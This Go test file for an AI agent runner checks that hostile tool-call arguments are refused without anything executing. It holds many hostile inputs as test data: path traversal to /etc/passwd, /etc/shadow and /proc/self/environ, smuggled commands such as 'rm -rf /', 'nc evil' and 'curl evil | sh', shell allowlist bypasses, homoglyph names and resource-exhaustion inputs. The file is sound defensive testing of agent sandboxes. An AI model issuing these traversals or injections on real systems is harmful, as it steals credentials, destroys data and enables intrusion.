package agent_test

import (
	"context"
	"maps"
	"strings"
	"testing"

	"github.com/boxcar-run/boxcar/internal/agent"
	"github.com/boxcar-run/boxcar/internal/config"
)

// catTool is a command tool whose parameter names a file, with a schema that admits only
// workdir-relative names: segments that start with a letter or digit, so no "..", no "/"
// in front, no leading "-", no shell syntax.
var catTool = config.Tool{
	Name:    "cat_file",
	Command: []string{"cat", "--", "{{path}}"},
	Parameters: map[string]any{
		"type": "object",
		"properties": map[string]any{
			"path": map[string]any{
				"type":      "string",
				"pattern":   `^[A-Za-z0-9][A-Za-z0-9._-]*(/[A-Za-z0-9][A-Za-z0-9._-]*)*$`,
				"maxLength": 200,
			},
		},
		"required":             []any{"path"},
		"additionalProperties": false,
	},
}

// Shell tools of the hostile profile: one allowlisted, one locked.
var (
	allowShell  = config.Tool{Name: "shell", Kind: config.ToolShell, Policy: config.PolicyAllowlist, Allow: []string{"ls *", "git status"}}
	lockedShell = config.Tool{Name: "locked", Kind: config.ToolShell, Policy: config.PolicyDeny}
)

// hostileProfile offers every kind of tool: the file tools and csv_stats of the example, the
// echoing emit tool, cat_file, and two shells.
//
// Its conversation may hold 32 MiB: a call of 10 MB arguments is refused and the run goes on,
// where the default max_conversation_bytes (8 MiB) would end it capped before the call (an
// answer of 10 MB goes back at every turn; TestCaps has that cap).
func hostileProfile(t *testing.T) config.Profile {
	p := csvProfile(t, emitTool, catTool, allowShell, lockedShell)
	p.Limits.MaxConversationBytes = 32 << 20
	return p
}

// tenMB is a 10 MB run of safe characters, for oversized arguments.
var tenMB = strings.Repeat("a", 10<<20)

// TestHostileArguments sends arguments a hostile or broken model might send. Each is refused
// with an error that goes back to the model as the call's only result, counted against the
// cap, and nothing runs: the fake sandbox records every Exec and holds every file.
func TestHostileArguments(t *testing.T) {
	deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)
	deepButValid := strings.Repeat("[", 5000) + strings.Repeat("]", 5000)
	tests := []struct {
		name         string
		tool, args   string
		wantPrefix   string
		wantContains string
	}{
		// Paths out of the workdir, built-in file tools.
		{name: "read_file ../", tool: "read_file", args: `{"path": "../etc/passwd"}`, wantPrefix: `path "../etc/passwd" outside the workdir`},
		{name: "read_file deep ../", tool: "read_file", args: `{"path": "../../../../../../../../etc/shadow"}`, wantPrefix: "path ", wantContains: "outside the workdir"},
		{name: "read_file .. alone", tool: "read_file", args: `{"path": ".."}`, wantPrefix: `path ".." outside the workdir`},
		{name: "read_file .. in the middle", tool: "read_file", args: `{"path": "sales.csv/../../../etc/passwd"}`, wantPrefix: "path ", wantContains: "outside the workdir"},
		{name: "read_file .. escaped as \\u002e", tool: "read_file", args: `{"path": "\u002e\u002e/etc/passwd"}`, wantPrefix: `path "../etc/passwd" outside the workdir`},
		{name: "read_file absolute", tool: "read_file", args: `{"path": "/etc/passwd"}`, wantPrefix: `path "/etc/passwd" outside the workdir`},
		{name: "read_file double slash", tool: "read_file", args: `{"path": "//etc/passwd"}`, wantPrefix: `path "//etc/passwd" outside the workdir`},
		{name: "read_file backslash root", tool: "read_file", args: `{"path": "\\etc\\passwd"}`, wantPrefix: "path ", wantContains: "outside the workdir"},
		{name: "read_file /proc environ", tool: "read_file", args: `{"path": "/proc/self/environ"}`, wantPrefix: `path "/proc/self/environ" outside the workdir`},
		{name: "read_file NUL byte", tool: "read_file", args: `{"path": "sales.csv\u0000/../../etc/passwd"}`, wantPrefix: "path ", wantContains: "outside the workdir"},
		{name: "write_file ../", tool: "write_file", args: `{"path": "../x", "content": "x"}`, wantPrefix: `path "../x" outside the workdir`},
		{name: "write_file climbs from a folder", tool: "write_file", args: `{"path": "a/../../x", "content": "x"}`, wantPrefix: `path "a/../../x" outside the workdir`},
		{name: "write_file absolute", tool: "write_file", args: `{"path": "/tmp/boxcar-pwned", "content": "x"}`, wantPrefix: `path "/tmp/boxcar-pwned" outside the workdir`},
		{name: "write_file NUL byte", tool: "write_file", args: `{"path": "ok.txt\u0000.sh", "content": "x"}`, wantPrefix: "path ", wantContains: "outside the workdir"},
		{name: "write_file the workdir itself", tool: "write_file", args: `{"path": "", "content": "x"}`, wantPrefix: "invalid arguments: path names the working directory"},
		{name: "list_files ..", tool: "list_files", args: `{"path": ".."}`, wantPrefix: `path ".." outside the workdir`},
		{name: "list_files /", tool: "list_files", args: `{"path": "/"}`, wantPrefix: `path "/" outside the workdir`},
		{name: "list_files ../..", tool: "list_files", args: `{"path": "../.."}`, wantPrefix: `path "../.." outside the workdir`},

		// Unicode look-alikes stay literal names inside the workdir: nothing by that name.
		{name: "fullwidth dots and slash", tool: "read_file", args: `{"path": "．．／etc／passwd"}`, wantPrefix: "failed: read", wantContains: "no such file"},
		{name: "one-dot leaders", tool: "read_file", args: `{"path": "\u2024\u2024/etc/passwd"}`, wantPrefix: "failed: read", wantContains: "no such file"},
		{name: "division slash", tool: "read_file", args: `{"path": "..\u2215..\u2215etc\u2215passwd"}`, wantPrefix: "failed: read", wantContains: "no such file"},
		{name: "right-to-left override", tool: "read_file", args: `{"path": "sales\u202ecsv.exe"}`, wantPrefix: "failed: read", wantContains: "no such file"},
		{name: "invalid UTF-8 (overlong dots)", tool: "read_file", args: "{\"path\": \"\xc0\xae\xc0\xae/etc/passwd\"}", wantPrefix: "failed: read", wantContains: "no such file"},

		// Template parameters: the schema admits only plain workdir-relative names.
		{name: "template ../", tool: "cat_file", args: `{"path": "../etc/passwd"}`, wantPrefix: "invalid arguments"},
		{name: "template .. segment", tool: "cat_file", args: `{"path": "a/../../etc/passwd"}`, wantPrefix: "invalid arguments"},
		{name: "template absolute", tool: "cat_file", args: `{"path": "/etc/passwd"}`, wantPrefix: "invalid arguments"},
		{name: "template command substitution", tool: "cat_file", args: `{"path": "$(cat /etc/shadow)"}`, wantPrefix: "invalid arguments"},
		{name: "template backticks", tool: "cat_file", args: "{\"path\": \"`id`\"}", wantPrefix: "invalid arguments"},
		{name: "template semicolon", tool: "cat_file", args: `{"path": "a.txt; rm -rf /"}`, wantPrefix: "invalid arguments"},
		{name: "template pipe and redirect", tool: "cat_file", args: `{"path": "a.txt | nc evil 80 > /dev/tcp"}`, wantPrefix: "invalid arguments"},
		{name: "template and-and", tool: "cat_file", args: `{"path": "a&&b"}`, wantPrefix: "invalid arguments"},
		{name: "template newline", tool: "cat_file", args: `{"path": "a.txt\nrm -rf /"}`, wantPrefix: "invalid arguments"},
		{name: "template leading dash", tool: "cat_file", args: `{"path": "--version"}`, wantPrefix: "invalid arguments"},
		{name: "template glob", tool: "cat_file", args: `{"path": "*"}`, wantPrefix: "invalid arguments"},
		{name: "template homoglyph", tool: "cat_file", args: `{"path": "ѕales.csv"}`, wantPrefix: "invalid arguments"},
		{name: "template fullwidth", tool: "cat_file", args: `{"path": "ｓales.csv"}`, wantPrefix: "invalid arguments"},
		{name: "template zero-width space", tool: "cat_file", args: `{"path": "sales\u200b.csv"}`, wantPrefix: "invalid arguments"},
		{name: "template duplicate key, hostile last", tool: "cat_file", args: `{"path": "sales.csv", "path": "../etc/passwd"}`, wantPrefix: "invalid arguments"},
		{name: "template over maxLength", tool: "cat_file", args: `{"path": "` + strings.Repeat("a", 201) + `"}`, wantPrefix: "invalid arguments"},
		{name: "csv_stats shell metacharacters", tool: "csv_stats", args: `{"path": "x.csv; curl evil | sh"}`, wantPrefix: "invalid arguments"},
		{name: "csv_stats .. before .csv", tool: "csv_stats", args: `{"path": "../../etc/passwd.csv"}`, wantPrefix: "invalid arguments"},
		{name: "csv_stats .. inside the path", tool: "csv_stats", args: `{"path": "data/../../../etc/x.csv"}`, wantPrefix: "invalid arguments"},
		{name: "emit NUL byte", tool: "emit", args: `{"text": "a\u0000b"}`, wantPrefix: `invalid arguments: parameter "text" contains a NUL byte`},

		// Wrong types, missing and extra properties.
		{name: "path a number", tool: "read_file", args: `{"path": 5}`, wantPrefix: "invalid arguments"},
		{name: "path an array", tool: "read_file", args: `{"path": ["../etc/passwd"]}`, wantPrefix: "invalid arguments"},
		{name: "path null", tool: "read_file", args: `{"path": null}`, wantPrefix: "invalid arguments"},
		{name: "path an object", tool: "read_file", args: `{"path": {"$ref": "/etc/passwd"}}`, wantPrefix: "invalid arguments"},
		// Numbers no tool can take, whose exact value the schema validator would work out
		// (big.Rat) for an integer, a bound or an enum: 1e999999 took a quarter of a second of
		// the worker's CPU, and one call may hold a hundred thousand of them.
		{name: "number with a huge exponent", tool: "emit", args: `{"text": "a", "n": 1e999999}`, wantPrefix: "invalid arguments: the number 1e999999"},
		{name: "number with a huge negative exponent", tool: "emit", args: `{"text": "a", "n": [1E-999999]}`, wantPrefix: "invalid arguments", wantContains: "exponent"},
		{name: "number of 100,000 digits", tool: "emit", args: `{"text": "a", "n": ` + strings.Repeat("9", 100000) + `}`, wantPrefix: "invalid arguments: a number of 100000 characters"},
		// Past float64's range within the exponent bound: a reader of the transcript that takes
		// numbers as float64 could not read the call's line.
		{name: "number past float64", tool: "emit", args: `{"text": "a", "n": 1e309}`, wantPrefix: "invalid arguments: the number 1e309"},
		{name: "negative number past float64", tool: "emit", args: `{"text": "a", "n": [-2E+308]}`, wantPrefix: "invalid arguments: the number -2E+308"},
		{name: "mantissa past float64", tool: "emit", args: `{"text": "a", "n": 100000000000e300}`, wantPrefix: "invalid arguments: the number 100000000000e300"},
		{name: "offset with a huge exponent", tool: "read_file", args: `{"path": "sales.csv", "offset": 1e999999}`, wantPrefix: "invalid arguments: the number 1e999999"},
		{name: "offset negative", tool: "read_file", args: `{"path": "sales.csv", "offset": -1}`, wantPrefix: "invalid arguments"},
		{name: "offset a string", tool: "read_file", args: `{"path": "sales.csv", "offset": "0"}`, wantPrefix: "invalid arguments"},
		{name: "offset a fraction", tool: "read_file", args: `{"path": "sales.csv", "offset": 1.5}`, wantPrefix: "invalid arguments"},
		{name: "limit zero", tool: "read_file", args: `{"path": "sales.csv", "limit": 0}`, wantPrefix: "invalid arguments"},
		{name: "emit number as string", tool: "emit", args: `{"text": "x", "n": "3; reboot"}`, wantPrefix: "invalid arguments"},
		{name: "emit boolean as string", tool: "emit", args: `{"text": "x", "flag": "true"}`, wantPrefix: "invalid arguments"},
		{name: "emit text an object", tool: "emit", args: `{"text": {"a": 1}}`, wantPrefix: "invalid arguments"},
		{name: "emit required missing", tool: "emit", args: `{"n": 1}`, wantPrefix: "invalid arguments"},
		{name: "extra property", tool: "write_file", args: `{"path": "x.sh", "content": "x", "mode": "0755"}`, wantPrefix: "invalid arguments"},
		{name: "extra property differing only in case", tool: "read_file", args: `{"path": "sales.csv", "PATH": "../../etc/passwd"}`, wantPrefix: "invalid arguments"},
		{name: "property in the wrong case only", tool: "read_file", args: `{"PATH": "../../etc/passwd"}`, wantPrefix: "invalid arguments"},
		{name: "list_files extra property", tool: "list_files", args: `{"path": ".", "follow_symlinks": true}`, wantPrefix: "invalid arguments"},

		// Arguments that are not one JSON object.
		{name: "arguments a JSON string", tool: "read_file", args: `"../etc/passwd"`, wantPrefix: "invalid arguments"},
		{name: "arguments an array", tool: "read_file", args: `["../etc/passwd"]`, wantPrefix: "invalid arguments"},
		{name: "arguments a number", tool: "read_file", args: `42`, wantPrefix: "invalid arguments"},
		{name: "arguments null", tool: "read_file", args: `null`, wantPrefix: "invalid arguments"},
		{name: "arguments cut short", tool: "read_file", args: `{"path": "sales.csv"`, wantPrefix: "invalid arguments: not valid JSON"},
		{name: "a second object after the first", tool: "read_file", args: `{"path": "sales.csv"} {"path": "../etc/passwd"}`, wantPrefix: "invalid arguments: not valid JSON"},
		{name: "JSON nested 100000 deep", tool: "emit", args: `{"text": "x", "n": ` + deep + `}`, wantPrefix: "invalid arguments: not valid JSON"},
		{name: "JSON nested 5000 deep", tool: "emit", args: `{"text": "x", "n": ` + deepButValid + `}`, wantPrefix: "invalid arguments"},

		// 10 MB arguments: refused, and the error the model sees stays small.
		{name: "10 MB path", tool: "read_file", args: `{"path": "` + tenMB + `"}`, wantPrefix: "failed: read", wantContains: "bytes cut"},
		{name: "10 MB write", tool: "write_file", args: `{"path": "big.txt", "content": "` + tenMB + `"}`, wantPrefix: "invalid arguments: content is 10485760 bytes"},
		{name: "10 MB command line", tool: "shell", args: `{"command": "` + tenMB + `"}`, wantPrefix: "refused:", wantContains: "bytes cut"},

		// Tool names that are not quite a tool.
		{name: "tool name upper case", tool: "READ_FILE", args: `{"path": "sales.csv"}`, wantPrefix: `tool "READ_FILE" not found`},
		{name: "tool name trailing space", tool: "read_file ", args: `{"path": "sales.csv"}`, wantPrefix: `tool "read_file " not found`},
		{name: "tool name with a path", tool: "../read_file", args: `{"path": "sales.csv"}`, wantPrefix: `tool "../read_file" not found`},
		{name: "tool name 10 MB", tool: tenMB, args: `{}`, wantPrefix: `tool "aaaa`, wantContains: "not found"},

		// The shell, under its policies.
		{name: "shell not allowlisted", tool: "shell", args: `{"command": ["rm", "-rf", "/"]}`, wantPrefix: `refused: argv ["rm" "-rf" "/"] matches none of the allowed patterns`},
		{name: "shell via sh -c", tool: "shell", args: `{"command": ["sh", "-c", "ls; cat /etc/shadow"]}`, wantPrefix: "refused:"},
		{name: "shell metacharacters glued to the program", tool: "shell", args: `{"command": "ls; cat /etc/shadow"}`, wantPrefix: "refused:"},
		{name: "shell absolute program path", tool: "shell", args: `{"command": ["/bin/ls", "-la"]}`, wantPrefix: "refused:"},
		{name: "shell through env", tool: "shell", args: `{"command": ["env", "ls", "x"]}`, wantPrefix: "refused:"},
		{name: "shell allowlist is anchored", tool: "shell", args: `{"command": ["git", "status", "--porcelain", "&&", "curl", "evil"]}`, wantPrefix: "refused:"},
		{name: "shell newline after an allowed command", tool: "shell", args: `{"command": ["git", "status\nrm -rf /"]}`, wantPrefix: "refused:"},
		{name: "shell NUL byte", tool: "shell", args: `{"command": ["ls", "a\u0000b"]}`, wantPrefix: "invalid arguments: command contains a NUL byte"},
		{name: "shell blank command", tool: "shell", args: `{"command": "   "}`, wantPrefix: "invalid arguments: command is empty"},
		{name: "shell argv not strings", tool: "shell", args: `{"command": [1, 2]}`, wantPrefix: "invalid arguments"},
		{name: "shell working folder smuggled in", tool: "shell", args: `{"command": ["ls"], "cwd": "/"}`, wantPrefix: "invalid arguments"},
		{name: "shell second command in another case", tool: "shell", args: `{"command": ["ls", "x"], "COMMAND": ["rm", "-rf", "/"]}`, wantPrefix: "invalid arguments"},
		{name: "locked shell", tool: "locked", args: `{"command": ["ls", "-la"]}`, wantPrefix: "refused: the operator's policy for this profile refuses shell commands"},
	}
	if len(tests) < 40 {
		t.Fatalf("only %d hostile cases", len(tests))
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel() // the 10 MB cases take seconds each under the race detector
			if testing.Short() && len(tt.tool)+len(tt.args) > 1<<20 {
				t.Skip("10 MB arguments take seconds; run without -short")
			}
			// The usage a tokenizer would report for the arguments (10 MB are no 100 tokens).
			s := newScript(t, toolCalls(max(100, int64(len(tt.tool)+len(tt.args))/4), call{"h1", tt.tool, tt.args}), final("gave up"))
			files := map[string]string{"sales.csv": salesCSV}
			sb := newFakeSandbox(files)
			p := hostileProfile(t)
			p.Limits.MaxTokens = 1 << 30 // room for the 10 MB answers
			res, err := newAgent(t, s).Run(context.Background(), request(p, sb))
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if argvs := sb.argvs(); len(argvs) != 0 {
				t.Fatalf("executed %.200q, want nothing run", argvs)
			}
			if got := sb.snapshot(); !maps.Equal(got, files) {
				t.Errorf("the sandbox's files changed: %d files, want the %d it started with", len(got), len(files))
			}
			if len(res.ToolCalls) != 1 || res.Outcome != agent.OutcomeCompleted {
				t.Fatalf("tool calls %d, outcome %q; want the refused call counted and the run going on", len(res.ToolCalls), res.Outcome)
			}
			got := lastToolResult(t, s.requests()[1])
			msg, _ := got["error"].(string)
			if len(got) != 1 || !strings.HasPrefix(msg, tt.wantPrefix) || !strings.Contains(msg, tt.wantContains) {
				t.Errorf("the model saw %.300v\nwant only {\"error\": %q…%q…}", got, tt.wantPrefix, tt.wantContains)
			}
			if len(msg) > 1024 {
				t.Errorf("the error the model sees is %d bytes, want at most 1024", len(msg))
			}
			tc := res.ToolCalls[0]
			if tc.Error != msg || tc.ExitCode != -1 {
				t.Errorf("recorded call: error %.200q exit %d; want the model's error and -1", tc.Error, tc.ExitCode)
			}

			// However large the arguments, the transcript records the refusal and goes on to
			// the end of the run: no single event can use it up.
			lines := transcriptLines(t, res.Transcript)
			var refusal map[string]any
			for _, l := range lines {
				if l["type"] == "tool_call" {
					refusal = l
				}
			}
			if refusal == nil || refusal["error"] != msg || refusal["id"] != "h1" {
				t.Errorf("transcript tool_call line = %.300v, want the call with the model's error", refusal)
			}
			if last := lines[len(lines)-1]; last["type"] != "final" || len(res.Transcript) > 8<<20 {
				t.Errorf("transcript of %d bytes ends with %.200v, want the final line within 8 MiB", len(res.Transcript), last)
			}
			if big := len(tt.args)+len(tt.tool) > 1<<20; big != strings.Contains(string(res.Transcript), `"shrunk":{`) {
				t.Errorf("shrunk lines in the transcript: %v, want them only for oversize arguments", !big)
			}
		})
	}
}

// snapshot returns a copy of the fake sandbox's files.
func (f *fakeSandbox) snapshot() map[string]string {
	f.mu.Lock()
	defer f.mu.Unlock()
	out := make(map[string]string, len(f.files))
	for k, v := range f.files {
		out[k] = string(v)
	}
	return out
}

// TestNumbersAToolTakes holds the bounds on a number in a call's arguments to numbers no tool
// can take: each of these runs its tool, and its transcript line records the arguments as JSON
// a reader taking numbers as float64 can read. A string that reads as a number is no number.
func TestNumbersAToolTakes(t *testing.T) {
	tests := []struct{ name, n string }{
		{"zero with an exponent", "0e0"},
		{"negative", "-12.5"},
		{"signed exponent", "1E+2"},
		{"float64's largest", "1.7976931348623157e308"},
		{"float64's largest, negative", "-1.7976931348623157e308"},
		{"below float64's smallest", "1e-400"},
		{"64 characters", "1." + strings.Repeat("0", 62)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			args := `{"text": "1e999999 ` + strings.Repeat("9", 100) + `", "n": ` + tt.n + `}`
			s := newScript(t, toolCalls(100, call{"h1", "emit", args}), final("done"))
			sb := newFakeSandbox(map[string]string{"sales.csv": salesCSV})
			res, err := newAgent(t, s).Run(context.Background(), request(hostileProfile(t), sb))
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if argvs := sb.argvs(); len(argvs) != 1 {
				t.Fatalf("ran %q, want emit run once; the model saw %.300v", argvs, lastToolResult(t, s.requests()[1]))
			}
			for _, l := range transcriptLines(t, res.Transcript) {
				if _, isText := l["args"].(string); l["type"] == "tool_call" && isText {
					t.Errorf("the transcript records the arguments as text: %.200v", l)
				}
			}
		})
	}
}
